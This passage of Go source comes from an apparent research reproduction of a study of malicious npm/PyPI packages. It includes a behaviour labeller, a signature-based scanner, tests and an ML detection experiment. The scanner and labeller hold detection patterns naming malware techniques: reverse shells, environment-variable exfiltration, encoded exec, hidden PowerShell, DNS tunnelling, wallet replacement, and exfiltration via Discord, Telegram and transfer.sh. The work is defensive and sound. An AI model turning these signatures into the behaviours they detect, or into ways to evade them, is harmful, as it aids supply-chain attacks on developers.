	return e, ok
}

// View returns a read-only snapshot of the dataset for concurrent readers.
// The entry slice, lookup index and per-source aggregates are copied;
// *Entry values are shared — Upsert never mutates a stored entry in place
// (changed entries are replaced with fresh merged copies), so shared
// pointers stay consistent however far the original advances. The view
// carries no per-entry accounting (statsByKey): it serves analyses and
// queries, not feeds or upserts.
func (r *Result) View() *Result {
	v := &Result{
		Entries:     make([]*Entry, len(r.Entries)),
		PerSource:   make(map[sources.ID]SourceStats, len(r.PerSource)),
		CollectedAt: r.CollectedAt,
		byKey:       make(map[string]*Entry, len(r.byKey)),
	}
	copy(v.Entries, r.Entries)
	for id, st := range r.PerSource {
		v.PerSource[id] = st
	}
	for k, e := range r.byKey {
		v.byKey[k] = e
	}
	return v
}

// Available returns the entries with artifacts, sorted by coordinate key.
func (r *Result) Available() []*Entry {
	var out []*Entry
	for _, e := range r.Entries {
		if e.Availability != Missing {
			out = append(out, e)
		}
	}
	return out
}

// MissingEntries returns the artifact-less entries.
func (r *Result) MissingEntries() []*Entry {
	var out []*Entry
	for _, e := range r.Entries {
		if e.Availability == Missing {
			out = append(out, e)
		}
	}
	return out
}

// TotalMR is the dataset-wide missing rate (paper: 39.27%).
func (r *Result) TotalMR() float64 {
	if len(r.Entries) == 0 {
		return 0
	}
	return float64(len(r.MissingEntries())) / float64(len(r.Entries))
}

// CountByEcosystem tallies entries per ecosystem.
func (r *Result) CountByEcosystem() map[ecosys.Ecosystem]int {
	out := make(map[ecosys.Ecosystem]int)
	for _, e := range r.Entries {
		out[e.Coord.Ecosystem]++
	}
	return out
}
