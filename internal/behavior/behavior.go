// Package behavior reproduces §VI-B / Table XI: characterizing the malicious
// behaviours of the largest similar-code groups. The paper labels groups
// from (1) security-report content when a member was reported and (2) an
// LLM-plus-manual-inspection pass otherwise; our substitute for (2) is a
// deterministic rule engine over package source — the curated-label step is
// what the rules encode.
package behavior

import (
	"sort"
	"strings"

	"malgraph/internal/codegen"
	"malgraph/internal/core"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
)

// Characterize returns the behaviour labels for one artifact from static
// inspection of its source.
func Characterize(a *ecosys.Artifact) []codegen.Behavior {
	src := a.MergedSource()
	lower := strings.ToLower(src)
	set := make(map[codegen.Behavior]bool)
	add := func(bs ...codegen.Behavior) {
		for _, b := range bs {
			set[b] = true
		}
	}
	has := func(needles ...string) bool {
		for _, n := range needles {
			if !strings.Contains(lower, n) {
				return false
			}
		}
		return true
	}
	anyOf := func(needles ...string) bool {
		for _, n := range needles {
			if strings.Contains(lower, n) {
				return true
			}
		}
		return false
	}

	if has("environ", "httpsconnection") || has("process.env", "https.request") || has("env.to_h", "net::http") {
		add(codegen.BehaviorDataExfiltration, codegen.BehaviorSpyware, codegen.BehaviorPIICollecting)
	}
	if has("b64decode", "os.system") || has("'base64'", "cp.exec") || has("b64decode", "exec(") ||
		has("eval(buffer.from") {
		add(codegen.BehaviorObfuscation)
	}
	if anyOf("powershell") {
		add(codegen.BehaviorPowerShell)
		if anyOf("hidden", "encodedcommand") {
			add(codegen.BehaviorObfuscation)
		}
	}
	if has("socket", "recv", "popen") || has("net.connect", "cp.exec") || has("tcpsocket", "loop") {
		add(codegen.BehaviorBackdoor, codegen.BehaviorC2Channel)
	}
	if has("gethostbyname", "environ") || has("dns.lookup", "process.env") {
		add(codegen.BehaviorDNSTunneling, codegen.BehaviorDataExfiltration)
	}
	if anyOf("/beacon") {
		add(codegen.BehaviorBeaconing, codegen.BehaviorFingerprinting, codegen.BehaviorC2Channel)
	}
	if anyOf("/pixel.gif") {
		add(codegen.BehaviorBeaconing, codegen.BehaviorSpyware)
	}
	if has("0x") && anyOf("钱包", "替换", "clipboard", "wallet") {
		add(codegen.BehaviorWalletReplace, codegen.BehaviorObfuscation)
	}
	if anyOf("discordapp", "discord.com") {
		add(codegen.BehaviorDiscordDelivery)
	}
	if anyOf("dl.dropbox") {
		add(codegen.BehaviorDropboxFetch)
	}
	if anyOf("webhook", "api.telegram.org") {
		add(codegen.BehaviorWebhookAbuse, codegen.BehaviorDataExfiltration)
	}
	if anyOf("aws_secret") {
		add(codegen.BehaviorCredentialTheft)
	}
	if strings.Contains(a.Description, "official") || containsLicenseSpoof(a) {
		add(codegen.BehaviorLicenseSpoofing)
	}

	out := make([]codegen.Behavior, 0, len(set))
	for b := range set {
		out = append(out, b)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

func containsLicenseSpoof(a *ecosys.Artifact) bool {
	for _, f := range a.Files {
		if strings.HasSuffix(f.Path, "README.md") && strings.Contains(f.Content, "MIT License") {
			return true
		}
	}
	return false
}

// GroupRow is one Table XI row: a large similar-code group and its
// behaviours.
type GroupRow struct {
	Eco       ecosys.Ecosystem
	Size      int
	Behaviors []string
	Source    string // "report" (§VI-B path 1) or "inspection" (path 2)
}

// TableXI characterizes every similar subgraph with at least minSize members
// (paper: 100), preferring report-derived labels when any member was covered
// by a security report.
func TableXI(mg *core.MalGraph, minSize int) []GroupRow {
	var rows []GroupRow
	for _, members := range mg.PackageSubgraphs(graph.Similar, minSize) {
		row := GroupRow{Size: len(members)}
		if e, ok := mg.EntryByNodeID(members[0]); ok {
			row.Eco = e.Coord.Ecosystem
		}

		// Path 1: report content.
		labelSet := make(map[string]bool)
		for _, id := range members {
			for _, rep := range mg.ReportsByPackage[id] {
				for _, b := range reports.ExtractBehaviors(rep.Body) {
					labelSet[b] = true
				}
			}
			if len(labelSet) > 0 {
				break
			}
		}
		if len(labelSet) > 0 {
			row.Source = "report"
		} else {
			// Path 2: code inspection of up to 5 representative members.
			row.Source = "inspection"
			inspected := 0
			for _, id := range members {
				e, ok := mg.EntryByNodeID(id)
				if !ok || e.Artifact == nil {
					continue
				}
				for _, b := range Characterize(e.Artifact) {
					labelSet[string(b)] = true
				}
				inspected++
				if inspected >= 5 {
					break
				}
			}
		}
		for b := range labelSet {
			row.Behaviors = append(row.Behaviors, b)
		}
		sort.Strings(row.Behaviors)
		rows = append(rows, row)
	}
	sort.Slice(rows, func(i, j int) bool {
		if rows[i].Eco != rows[j].Eco {
			return rows[i].Eco < rows[j].Eco
		}
		return rows[i].Size > rows[j].Size
	})
	return rows
}
