package behavior

import (
	"fmt"
	"testing"

	"malgraph/internal/codegen"
	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

func artifactFor(t *testing.T, payload codegen.PayloadKind, eco ecosys.Ecosystem) *ecosys.Artifact {
	t.Helper()
	cb := codegen.NewCodeBase(fmt.Sprintf("cb-%d-%d", payload, eco), eco, payload, xrand.New(uint64(payload)*7+uint64(eco)))
	coord := ecosys.Coord{Ecosystem: eco, Name: fmt.Sprintf("pkg%d%d", payload, eco), Version: "1.0.0"}
	return cb.Instantiate(coord, codegen.Options{Description: "d"})
}

func hasBehavior(got []codegen.Behavior, want codegen.Behavior) bool {
	for _, b := range got {
		if b == want {
			return true
		}
	}
	return false
}

func TestCharacterizeCoreFamilies(t *testing.T) {
	cases := []struct {
		payload codegen.PayloadKind
		eco     ecosys.Ecosystem
		want    codegen.Behavior
	}{
		{codegen.PayloadEnvExfil, ecosys.PyPI, codegen.BehaviorDataExfiltration},
		{codegen.PayloadEnvExfil, ecosys.NPM, codegen.BehaviorDataExfiltration},
		{codegen.PayloadBackdoorShell, ecosys.PyPI, codegen.BehaviorBackdoor},
		{codegen.PayloadBackdoorShell, ecosys.NPM, codegen.BehaviorC2Channel},
		{codegen.PayloadBeaconC2, ecosys.PyPI, codegen.BehaviorBeaconing},
		{codegen.PayloadDNSTunnel, ecosys.NPM, codegen.BehaviorDNSTunneling},
		{codegen.PayloadWalletReplace, ecosys.PyPI, codegen.BehaviorWalletReplace},
		{codegen.PayloadDiscordDropper, ecosys.NPM, codegen.BehaviorPowerShell},
	}
	for _, tc := range cases {
		a := artifactFor(t, tc.payload, tc.eco)
		got := Characterize(a)
		if !hasBehavior(got, tc.want) {
			t.Errorf("payload %d on %v: behaviors %v missing %q\nsource:\n%s",
				tc.payload, tc.eco, got, tc.want, a.MergedSource())
		}
	}
}

func TestCharacterizeLicenseSpoofing(t *testing.T) {
	a := artifactFor(t, codegen.PayloadDropboxFetch, ecosys.PyPI)
	got := Characterize(a)
	// codegen README always carries "MIT License." — spoofed (Table XI).
	if !hasBehavior(got, codegen.BehaviorLicenseSpoofing) {
		t.Errorf("license spoofing not detected: %v", got)
	}
}

func TestCharacterizeBenignIsQuiet(t *testing.T) {
	b := codegen.NewBenignBase("bb", ecosys.NPM, codegen.PurposeDataLib, xrand.New(3))
	a := b.Instantiate(ecosys.Coord{Ecosystem: ecosys.NPM, Name: "fine", Version: "1.0.0"}, "a data lib", nil)
	got := Characterize(a)
	for _, bad := range []codegen.Behavior{
		codegen.BehaviorBackdoor, codegen.BehaviorDataExfiltration, codegen.BehaviorWalletReplace,
	} {
		if hasBehavior(got, bad) {
			t.Errorf("benign data lib labelled %q", bad)
		}
	}
}

func TestCharacterizeDeterministic(t *testing.T) {
	a := artifactFor(t, codegen.PayloadCredentialTheft, ecosys.NPM)
	x := Characterize(a)
	y := Characterize(a)
	if len(x) != len(y) {
		t.Fatal("non-deterministic behavior labels")
	}
	for i := range x {
		if x[i] != y[i] {
			t.Fatal("behavior order unstable")
		}
	}
}
