package detect

import (
	"fmt"
	"sort"
	"strings"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// Finding is one rule hit.
type Finding struct {
	Rule     string
	File     string
	Evidence string
}

// Rule is a static-analysis detection rule: the GuardDog-style signature set
// used for the §IV-A controlled validation.
type Rule struct {
	ID string
	// Match inspects one source file and returns evidence when it fires.
	Match func(path, lowerContent string) (string, bool)
}

func containsAll(s string, needles ...string) (string, bool) {
	for _, n := range needles {
		if !strings.Contains(s, n) {
			return "", false
		}
	}
	return strings.Join(needles, "+"), true
}

// DefaultRules returns the built-in rule set. Each rule requires a
// *combination* of signals, mirroring how production scanners temper
// single-token false positives.
func DefaultRules() []Rule {
	return []Rule{
		{ID: "env-exfiltration", Match: func(_, s string) (string, bool) {
			if ev, ok := containsAll(s, "environ", "httpsconnection"); ok {
				return ev, true
			}
			if ev, ok := containsAll(s, "process.env", "https.request"); ok {
				return ev, true
			}
			return containsAll(s, "env.to_h", "net::http")
		}},
		{ID: "encoded-exec", Match: func(_, s string) (string, bool) {
			if ev, ok := containsAll(s, "b64decode", "os.system"); ok {
				return ev, true
			}
			if ev, ok := containsAll(s, "'base64'", "cp.exec"); ok {
				return ev, true
			}
			return containsAll(s, "b64decode", "exec(")
		}},
		{ID: "hidden-powershell", Match: func(_, s string) (string, bool) {
			return containsAll(s, "powershell", "hidden")
		}},
		{ID: "reverse-shell", Match: func(_, s string) (string, bool) {
			if ev, ok := containsAll(s, "socket", "recv", "popen"); ok {
				return ev, true
			}
			return containsAll(s, "net.connect", "cp.exec")
		}},
		{ID: "dns-tunnel", Match: func(_, s string) (string, bool) {
			if ev, ok := containsAll(s, "gethostbyname", "environ"); ok {
				return ev, true
			}
			return containsAll(s, "dns.lookup", "process.env")
		}},
		{ID: "beaconing", Match: func(_, s string) (string, bool) {
			if ev, ok := containsAll(s, "gethostname", "/beacon"); ok {
				return ev, true
			}
			return containsAll(s, "os.hostname", "/beacon")
		}},
		{ID: "wallet-replacement", Match: func(_, s string) (string, bool) {
			return containsAll(s, "0x", "clipboard")
		}},
		{ID: "wallet-replacement-obfuscated", Match: func(_, s string) (string, bool) {
			if strings.Contains(s, "0x") && (strings.Contains(s, "钱包") || strings.Contains(s, "替换")) {
				return "0x+cjk-obfuscation", true
			}
			return "", false
		}},
		{ID: "tracking-pixel", Match: func(_, s string) (string, bool) {
			return containsAll(s, "/pixel.gif")
		}},
		{ID: "exfil-service", Match: func(_, s string) (string, bool) {
			for _, svc := range []string{"discordapp", "api.telegram.org", "transfer.sh", "dl.dropbox", "bananasquad", "kekwltd"} {
				if strings.Contains(s, svc) {
					return svc, true
				}
			}
			return "", false
		}},
	}
}

// Scanner applies a rule set to artifacts.
type Scanner struct {
	rules []Rule
}

// NewScanner returns a scanner with the default rules.
func NewScanner() *Scanner { return &Scanner{rules: DefaultRules()} }

// Scan returns every finding across the artifact's source files, sorted.
func (s *Scanner) Scan(a *ecosys.Artifact) []Finding {
	var out []Finding
	for _, f := range a.SourceFiles() {
		lower := strings.ToLower(f.Content)
		for _, r := range s.rules {
			if ev, ok := r.Match(f.Path, lower); ok {
				out = append(out, Finding{Rule: r.ID, File: f.Path, Evidence: ev})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Rule != out[j].Rule {
			return out[i].Rule < out[j].Rule
		}
		return out[i].File < out[j].File
	})
	return out
}

// Flagged reports whether any rule fires.
func (s *Scanner) Flagged(a *ecosys.Artifact) bool { return len(s.Scan(a)) > 0 }

// ValidationResult summarises one §IV-A controlled sampling experiment.
type ValidationResult struct {
	Experiments    int
	SampleSize     int
	ScannerFlagged int // packages flagged by the scanner alone
	Verified       int // packages confirmed malicious after manual inspection
	Total          int
}

// ScannerRate is the fraction the scanner alone caught.
func (v ValidationResult) ScannerRate() float64 {
	if v.Total == 0 {
		return 0
	}
	return float64(v.ScannerFlagged) / float64(v.Total)
}

// VerifiedRate is the post-inspection malicious fraction (paper: 100%).
func (v ValidationResult) VerifiedRate() float64 {
	if v.Total == 0 {
		return 0
	}
	return float64(v.Verified) / float64(v.Total)
}

// ValidateSampling reproduces §IV-A: run `experiments` rounds, each sampling
// sampleSize artifacts, scanning them, and then "manually inspecting"
// scanner misses (inspect returns the adjudicated truth for a package).
func ValidateSampling(artifacts []*ecosys.Artifact, experiments, sampleSize int, inspect func(*ecosys.Artifact) bool, rng *xrand.RNG) ValidationResult {
	res := ValidationResult{Experiments: experiments, SampleSize: sampleSize}
	if len(artifacts) == 0 {
		return res
	}
	scanner := NewScanner()
	for e := 0; e < experiments; e++ {
		idx := rng.Sample(len(artifacts), sampleSize)
		for _, i := range idx {
			res.Total++
			if scanner.Flagged(artifacts[i]) {
				res.ScannerFlagged++
				res.Verified++
				continue
			}
			if inspect != nil && inspect(artifacts[i]) {
				res.Verified++
			}
		}
	}
	return res
}

// String renders the result like the paper's prose.
func (v ValidationResult) String() string {
	return fmt.Sprintf("%d experiments × %d samples: scanner %.1f%%, verified %.1f%%",
		v.Experiments, v.SampleSize, v.ScannerRate()*100, v.VerifiedRate()*100)
}
