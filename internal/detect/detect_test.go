package detect

import (
	"fmt"
	"testing"

	"malgraph/internal/codegen"
	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

func malArtifact(t *testing.T, eco ecosys.Ecosystem, payload codegen.PayloadKind, seed uint64) *ecosys.Artifact {
	t.Helper()
	cb := codegen.NewCodeBase(fmt.Sprintf("cb%d", seed), eco, payload, xrand.New(seed))
	coord := ecosys.Coord{Ecosystem: eco, Name: fmt.Sprintf("evil%d", seed), Version: "1.0.0"}
	return cb.Instantiate(coord, codegen.Options{Description: "totally legit"})
}

func benignArtifact(t *testing.T, eco ecosys.Ecosystem, purpose codegen.BenignPurpose, seed uint64) *ecosys.Artifact {
	t.Helper()
	b := codegen.NewBenignBase(fmt.Sprintf("bb%d", seed), eco, purpose, xrand.New(seed))
	coord := ecosys.Coord{Ecosystem: eco, Name: fmt.Sprintf("nice%d", seed), Version: "1.0.0"}
	return b.Instantiate(coord, "a well behaved library", nil)
}

func TestFeaturesVectorShape(t *testing.T) {
	a := malArtifact(t, ecosys.NPM, codegen.PayloadEnvExfil, 1)
	f := Features(a)
	if len(f) != len(FeatureNames) {
		t.Fatalf("feature count %d != names %d", len(f), len(FeatureNames))
	}
}

func TestFeaturesSeparateMalFromBenign(t *testing.T) {
	idx := func(name string) int {
		for i, n := range FeatureNames {
			if n == name {
				return i
			}
		}
		t.Fatalf("unknown feature %s", name)
		return -1
	}
	mal := Features(malArtifact(t, ecosys.NPM, codegen.PayloadEnvExfil, 2))
	ben := Features(benignArtifact(t, ecosys.NPM, codegen.PurposeDataLib, 2))
	if mal[idx("tok_env")] <= ben[idx("tok_env")] {
		t.Errorf("env-exfil malware should out-score a data lib on tok_env: %v vs %v",
			mal[idx("tok_env")], ben[idx("tok_env")])
	}
	// URLs alone must NOT separate the classes: benign libraries carry
	// documentation links (that overlap is what makes Table X non-trivial).
	if ben[idx("url_literals")] == 0 {
		t.Error("benign packages should carry documentation URLs")
	}
}

func TestFeaturesBenignHardNegatives(t *testing.T) {
	idx := func(name string) int {
		for i, n := range FeatureNames {
			if n == name {
				return i
			}
		}
		return -1
	}
	// Encoding libs legitimately score on base64; build tools on install
	// hooks — single features must not be trivially separating.
	enc := Features(benignArtifact(t, ecosys.NPM, codegen.PurposeEncoding, 3))
	if enc[idx("tok_base64")] == 0 {
		t.Error("encoding lib should reference base64")
	}
	build := Features(benignArtifact(t, ecosys.NPM, codegen.PurposeBuildTool, 4))
	if build[idx("install_hook")] != 1 {
		t.Error("build tool should have an install hook")
	}
}

func TestScannerFlagsEveryPayloadFamily(t *testing.T) {
	s := NewScanner()
	for _, payload := range codegen.AllPayloads() {
		for _, eco := range []ecosys.Ecosystem{ecosys.NPM, ecosys.PyPI} {
			a := malArtifact(t, eco, payload, uint64(payload)*100+uint64(eco))
			if !s.Flagged(a) {
				t.Errorf("payload %d on %v evaded every rule; source:\n%s", payload, eco, a.MergedSource())
			}
		}
	}
}

func TestScannerMostlyPassesBenign(t *testing.T) {
	s := NewScanner()
	flagged := 0
	const n = 50
	for i := 0; i < n; i++ {
		purpose := codegen.AllPurposes()[i%len(codegen.AllPurposes())]
		a := benignArtifact(t, ecosys.NPM, purpose, uint64(1000+i))
		if s.Flagged(a) {
			flagged++
		}
	}
	if flagged > n/10 {
		t.Fatalf("scanner flagged %d/%d benign packages", flagged, n)
	}
}

func TestScanFindingsSorted(t *testing.T) {
	a := malArtifact(t, ecosys.PyPI, codegen.PayloadDiscordDropper, 7)
	findings := NewScanner().Scan(a)
	for i := 1; i < len(findings); i++ {
		if findings[i-1].Rule > findings[i].Rule {
			t.Fatal("findings not sorted")
		}
	}
}

func TestValidateSampling(t *testing.T) {
	var artifacts []*ecosys.Artifact
	for i := 0; i < 40; i++ {
		payload := codegen.AllPayloads()[i%len(codegen.AllPayloads())]
		artifacts = append(artifacts, malArtifact(t, ecosys.NPM, payload, uint64(2000+i)))
	}
	res := ValidateSampling(artifacts, 5, 20, func(*ecosys.Artifact) bool { return true }, xrand.New(5))
	if res.Total != 100 {
		t.Fatalf("total = %d", res.Total)
	}
	// Paper §IV-A: after scanning + manual inspection, 100% verified.
	if res.VerifiedRate() != 1.0 {
		t.Fatalf("verified rate = %v", res.VerifiedRate())
	}
	if res.ScannerRate() < 0.9 {
		t.Fatalf("scanner rate = %v, scanner should catch nearly all", res.ScannerRate())
	}
}

func TestValidateSamplingEmpty(t *testing.T) {
	res := ValidateSampling(nil, 5, 10, nil, xrand.New(1))
	if res.Total != 0 || res.VerifiedRate() != 0 {
		t.Fatalf("empty validation = %+v", res)
	}
}

func buildClusters(t *testing.T, nClusters, perCluster int) [][]*ecosys.Artifact {
	t.Helper()
	clusters := make([][]*ecosys.Artifact, 0, nClusters)
	for c := 0; c < nClusters; c++ {
		payload := codegen.AllPayloads()[c%len(codegen.AllPayloads())]
		cb := codegen.NewCodeBase(fmt.Sprintf("cl%d", c), ecosys.NPM, payload, xrand.New(uint64(3000+c)))
		var cl []*ecosys.Artifact
		for p := 0; p < perCluster; p++ {
			coord := ecosys.Coord{Ecosystem: ecosys.NPM, Name: fmt.Sprintf("m%d-%d", c, p), Version: "1.0.0"}
			cl = append(cl, cb.Instantiate(coord, codegen.Options{Description: "d"}))
		}
		clusters = append(clusters, cl)
	}
	return clusters
}

func TestRunTableXShape(t *testing.T) {
	clusters := buildClusters(t, 10, 6)
	benign := codegen.GenerateBenignPool(ecosys.NPM, 80, xrand.New(9))
	rows, err := RunTableX(clusters, benign, TableXConfig{Iterations: 6, ClustersPerIter: 4, PerCluster: 2, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	names := map[string]bool{}
	for _, r := range rows {
		names[r.Algorithm] = true
		for _, v := range []float64{r.AccWith, r.AccWithout, r.RecallWith, r.RecallWithout} {
			if v < 0 || v > 1 {
				t.Fatalf("%s metric out of range: %+v", r.Algorithm, r)
			}
		}
		// Detection is far better than chance in both settings.
		if r.AccWith < 0.6 || r.AccWithout < 0.5 {
			t.Errorf("%s accuracy too low: %+v", r.Algorithm, r)
		}
	}
	for _, want := range []string{"RF", "LR", "KNN", "MLP"} {
		if !names[want] {
			t.Fatalf("missing algorithm %s", want)
		}
	}
}

func TestRunTableXErrors(t *testing.T) {
	if _, err := RunTableX(nil, nil, DefaultTableXConfig()); err == nil {
		t.Fatal("nil clusters must error")
	}
	clusters := buildClusters(t, 3, 3)
	if _, err := RunTableX(clusters, nil, DefaultTableXConfig()); err == nil {
		t.Fatal("nil benign must error")
	}
}

func TestRunTableXDeterministic(t *testing.T) {
	clusters := buildClusters(t, 6, 4)
	benign := codegen.GenerateBenignPool(ecosys.NPM, 40, xrand.New(11))
	cfg := TableXConfig{Iterations: 3, ClustersPerIter: 2, PerCluster: 2, Seed: 21}
	a, err := RunTableX(clusters, benign, cfg)
	if err != nil {
		t.Fatal(err)
	}
	b, err := RunTableX(clusters, benign, cfg)
	if err != nil {
		t.Fatal(err)
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("non-deterministic Table X: %+v vs %+v", a[i], b[i])
		}
	}
}
