package detect

import (
	"fmt"

	"malgraph/internal/ecosys"
	"malgraph/internal/ml"
	"malgraph/internal/xrand"
)

// TableXConfig parameterises the §VI-A diversity experiment.
type TableXConfig struct {
	Iterations      int // paper: 50
	ClustersPerIter int // clusters sampled into the test set each iteration
	PerCluster      int // packages sampled per cluster (paper: 2)
	Seed            uint64
}

// DefaultTableXConfig returns the paper's parameters.
func DefaultTableXConfig() TableXConfig {
	return TableXConfig{Iterations: 50, ClustersPerIter: 12, PerCluster: 2, Seed: 99}
}

// TableXRow is one Table X row: a model's average accuracy/recall with and
// without MALGRAPH's diversity information.
type TableXRow struct {
	Algorithm     string
	AccWithout    float64
	AccWith       float64
	RecallWithout float64
	RecallWith    float64
}

// modelFactory builds a fresh classifier per training run (models are
// stateful; reuse across runs would leak).
type modelFactory struct {
	name  string
	build func(seed uint64) ml.Classifier
}

func tableXModels() []modelFactory {
	return []modelFactory{
		{"RF", func(seed uint64) ml.Classifier { return &ml.RandomForest{Trees: 40, MaxDepth: 10, Seed: seed} }},
		{"LR", func(uint64) ml.Classifier { return &ml.LogisticRegression{Epochs: 200} }},
		// K=3 matches the 2-per-cluster sampling: a test package's two
		// same-family training twins form a majority among 3 neighbours.
		{"KNN", func(uint64) ml.Classifier { return &ml.KNN{K: 3} }},
		{"MLP", func(seed uint64) ml.Classifier { return &ml.MLP{Hidden: 24, Epochs: 40, Seed: seed} }},
	}
}

// RunTableX executes the experiment: `clusters` are the MALGRAPH similar
// groups of tracked malware (each a slice of artifacts), `benign` is the
// legitimate pool. Per iteration, the test set takes PerCluster packages
// from ClustersPerIter sampled clusters (with repetition for small
// clusters); the "with" training set takes PerCluster packages from *every*
// remaining cluster (diversity-aware coverage), while the "without" training
// set draws the same number of malicious samples at random. Both are
// balanced with equal-sized benign samples. Results are averaged over
// Iterations.
func RunTableX(clusters [][]*ecosys.Artifact, benign []*ecosys.Artifact, cfg TableXConfig) ([]TableXRow, error) {
	if len(clusters) < 2 {
		return nil, fmt.Errorf("detect: need ≥2 clusters, have %d", len(clusters))
	}
	if len(benign) == 0 {
		return nil, fmt.Errorf("detect: empty benign pool")
	}
	if cfg.Iterations <= 0 {
		cfg = DefaultTableXConfig()
	}
	if cfg.ClustersPerIter >= len(clusters) {
		cfg.ClustersPerIter = len(clusters) / 2
		if cfg.ClustersPerIter < 1 {
			cfg.ClustersPerIter = 1
		}
	}

	// Pre-extract features once.
	feat := make(map[*ecosys.Artifact][]float64)
	for _, cl := range clusters {
		for _, a := range cl {
			feat[a] = Features(a)
		}
	}
	benignFeat := make([][]float64, len(benign))
	for i, a := range benign {
		benignFeat[i] = Features(a)
	}

	models := tableXModels()
	sums := make(map[string]*TableXRow, len(models))
	for _, m := range models {
		sums[m.name] = &TableXRow{Algorithm: m.name}
	}

	rng := xrand.New(cfg.Seed)
	for iter := 0; iter < cfg.Iterations; iter++ {
		iterRng := rng.Derive(fmt.Sprintf("iter%d", iter))

		testClusters := iterRng.Sample(len(clusters), cfg.ClustersPerIter)
		inTest := make(map[int]bool, len(testClusters))
		for _, ci := range testClusters {
			inTest[ci] = true
		}

		var testX [][]float64
		var testY []int
		testMembers := make(map[*ecosys.Artifact]bool)
		for _, ci := range testClusters {
			cl := clusters[ci]
			for k := 0; k < cfg.PerCluster; k++ {
				a := cl[iterRng.Intn(len(cl))] // repetition allowed: small clusters
				testX = append(testX, feat[a])
				testY = append(testY, 1)
				testMembers[a] = true
			}
		}

		// Remaining malicious pool and per-cluster remainder.
		var pool []*ecosys.Artifact
		var remaining [][]*ecosys.Artifact
		for ci, cl := range clusters {
			var rest []*ecosys.Artifact
			for _, a := range cl {
				if !testMembers[a] {
					rest = append(rest, a)
				}
			}
			if len(rest) == 0 {
				continue
			}
			if !inTest[ci] || len(rest) > 0 {
				remaining = append(remaining, rest)
			}
			pool = append(pool, rest...)
		}

		// (1) diversity-aware training: PerCluster samples per cluster.
		var withX [][]float64
		var withY []int
		for _, rest := range remaining {
			for k := 0; k < cfg.PerCluster; k++ {
				a := rest[iterRng.Intn(len(rest))]
				withX = append(withX, feat[a])
				withY = append(withY, 1)
			}
		}
		malTrainN := len(withX)

		// (2) random training: same count from the undifferentiated pool.
		var withoutX [][]float64
		var withoutY []int
		for k := 0; k < malTrainN; k++ {
			a := pool[iterRng.Intn(len(pool))]
			withoutX = append(withoutX, feat[a])
			withoutY = append(withoutY, 1)
		}

		// Balance both with benign; test gets its own benign half.
		benignIdx := iterRng.Perm(len(benignFeat))
		take := func(n int) [][]float64 {
			out := make([][]float64, 0, n)
			for k := 0; k < n; k++ {
				out = append(out, benignFeat[benignIdx[k%len(benignIdx)]])
			}
			return out
		}
		for _, b := range take(malTrainN) {
			withX = append(withX, b)
			withY = append(withY, 0)
			withoutX = append(withoutX, b)
			withoutY = append(withoutY, 0)
		}
		testBenign := take(len(testX))
		for _, b := range testBenign {
			testX = append(testX, b)
			testY = append(testY, 0)
		}

		for mi, m := range models {
			seed := cfg.Seed + uint64(iter*10+mi)
			withModel := m.build(seed)
			if err := withModel.Fit(withX, withY); err != nil {
				return nil, fmt.Errorf("fit %s (with): %w", m.name, err)
			}
			withoutModel := m.build(seed)
			if err := withoutModel.Fit(withoutX, withoutY); err != nil {
				return nil, fmt.Errorf("fit %s (without): %w", m.name, err)
			}
			mw := ml.Evaluate(withModel, testX, testY)
			mo := ml.Evaluate(withoutModel, testX, testY)
			row := sums[m.name]
			row.AccWith += mw.Accuracy
			row.RecallWith += mw.Recall
			row.AccWithout += mo.Accuracy
			row.RecallWithout += mo.Recall
		}
	}

	out := make([]TableXRow, 0, len(models))
	n := float64(cfg.Iterations)
	for _, m := range models {
		row := sums[m.name]
		row.AccWith /= n
		row.AccWithout /= n
		row.RecallWith /= n
		row.RecallWithout /= n
		out = append(out, *row)
	}
	return out, nil
}
