// Package detect implements the security applications of §VI: numeric
// feature extraction over package artifacts, a rule-based static scanner (the
// GuardDog/Semgrep stand-in used for the §IV-A validation experiment), and
// the diversity-aware detection experiment that regenerates Table X.
package detect

import (
	"math"
	"regexp"
	"strings"

	"malgraph/internal/ecosys"
)

// FeatureNames lists the extracted features in vector order. The set is
// deliberately generic (API-category counts and structural statistics, no
// signature-grade indicators): like the paper's §VI-A setting, detection
// quality then hinges on how well the *training sample* covers the corpus's
// code-base families — which is exactly what Table X measures.
var FeatureNames = []string{
	"log_src_bytes", "num_files", "num_deps", "install_hook",
	"tok_base64", "tok_exec", "tok_socket", "tok_env", "tok_http",
	"longest_literal", "ip_literals", "url_literals",
	"name_len", "name_digits", "desc_len",
}

var (
	ipLiteralRe  = regexp.MustCompile(`\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b`)
	urlLiteralRe = regexp.MustCompile(`https?://[^\s"'<>\)]+`)
	stringLitRe  = regexp.MustCompile(`"[^"\n]*"|'[^'\n]*'`)
)

var tokenGroups = map[string][]string{
	"tok_base64": {"base64", "b64decode", "b64encode", "frombase64", "tostring('base64')", "'base64'"},
	"tok_exec":   {"exec(", "eval(", "os.system", "subprocess", "cp.exec", "execsync", "popen", "check_call"},
	"tok_socket": {"socket", "net.connect", "tcpsocket", "connect((", "dns.lookup", "gethostbyname"},
	"tok_env":    {"os.environ", "process.env", "env.to_h", "getenv", "aws_secret"},
	"tok_http":   {"https.request", "urlopen", "httpsconnection", "net::http", "fetch(", ".post(", "http.request"},
}

// Features converts an artifact into the numeric vector §VI-A's models
// consume. The vector length equals len(FeatureNames).
func Features(a *ecosys.Artifact) []float64 {
	src := a.MergedSource()
	lower := strings.ToLower(src)
	features := make([]float64, len(FeatureNames))
	set := func(name string, v float64) {
		for i, n := range FeatureNames {
			if n == name {
				features[i] = v
				return
			}
		}
	}

	set("log_src_bytes", math.Log1p(float64(len(src))))
	set("num_files", float64(len(a.Files)))

	manifest, hasManifest := a.Manifest()
	deps := 0
	if hasManifest {
		deps = strings.Count(manifest.Content, "\n")
		if strings.Contains(manifest.Content, "dependencies") {
			deps = strings.Count(manifest.Content, "^")
		}
		if strings.Contains(strings.ToLower(manifest.Content), "postinstall") ||
			strings.Contains(manifest.Content, "cmdclass") {
			set("install_hook", 1)
		}
	}
